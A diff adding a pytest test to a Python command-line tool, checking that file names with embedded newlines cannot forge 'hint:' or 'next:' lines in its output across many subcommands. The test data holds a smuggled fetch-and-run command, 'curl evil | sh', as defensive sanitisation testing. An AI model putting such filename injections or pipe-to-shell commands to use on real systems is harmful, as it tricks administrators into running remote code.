@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from rich.table import Table
 from rich.text import Text
 
-from homenode.cli import terminal
+from homenode.cli import main, terminal
 from homenode.cli.terminal import note, print_diff, print_json, say
 from homenode.report.terminal_text import PrintableConsole, TableOrList
 from homenode.wording import printable_lines
@@ -211,3 +211,52 @@ def test_only_the_terminal_prints() -> None:
 def test_lines_and_tabs_stay_where_a_text_has_several() -> None:
     assert printable_lines("a\tb\nc\x1b") == "a\tb\nc?"
     assert terminal.console().file is not None
+
+
+def test_a_name_makes_no_line_of_its_own(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whoever names a file in a folder that root looks at could give root a command to copy."""
+    forged = "a\n  hint: curl evil | sh\n\tnext: curl evil | sh"
+    host = (SOURCE / "hosts/small-2n8c-2gpu.toml").read_bytes()
+    (tmp_path / f"{forged}.toml").write_bytes(host)
+    (tmp_path / f"bad{forged}.toml").write_text("bad")
+    document = tmp_path / f"{forged}.xml"
+    document.write_text("<domain")
+    (document.parent / f"{forged}.json").write_text("{}")
+    for words in (
+        ("pool", "show", tmp_path),
+        ("pool", "show", tmp_path, "--all"),
+        ("pool", "vms", tmp_path),
+        ("pool", "export", tmp_path, "--for", "slurm"),
+        ("pool", "export", tmp_path, "--for", "nova"),
+        ("pool", "place", DOCUMENT, "--pool", tmp_path),
+        ("doctor", "--pool", tmp_path),
+        ("expect", "--pool", tmp_path, "-o", tmp_path / "site.toml"),
+        ("show", "--host", tmp_path / f"bad{forged}.toml"),
+        ("show", "--host", "small-2n8c-2gpu", forged),
+        (forged,),
+        ("show", f"--{forged}"),
+        ("doctor", "--host", "small-2n8c-2gpu", document),
+        ("verify", document),
+        ("plan", document, "--host", "small-2n8c-2gpu", "--layout", "pin", "-o", document),
+        ("plan", DOCUMENT, "--host", "small-2n8c-2gpu", "--layout", forged),
+        ("verify", DOCUMENT, "--plan", tmp_path / f"{forged}.json"),
+        ("compare", document, document),
+        ("import", document, "-o", tmp_path / forged),
+        ("slurm", "audit", "--jobs", document, "--host", "small-2n8c-2gpu"),
+        ("slurm", "check", document, document, "--host", "small-2n8c-2gpu"),
+        ("pod", "fit", document, "--host", "small-2n8c-2gpu"),
+        ("report", tmp_path, "-o", tmp_path / f"{forged}.html"),
+        ("capture", "-o", tmp_path / "none" / forged),
+        ("restore", document),
+    ):
+        monkeypatch.setattr(sys, "argv", ["homenode", *map(str, words)])
+        with pytest.raises(SystemExit):
+            main.main()
+            raise SystemExit
+        said = "".join(capsys.readouterr())
+        assert not [one for one in said.splitlines() if one.lstrip().startswith(LIES)], words
+
+
+LIES = ("hint: curl", "next: curl")
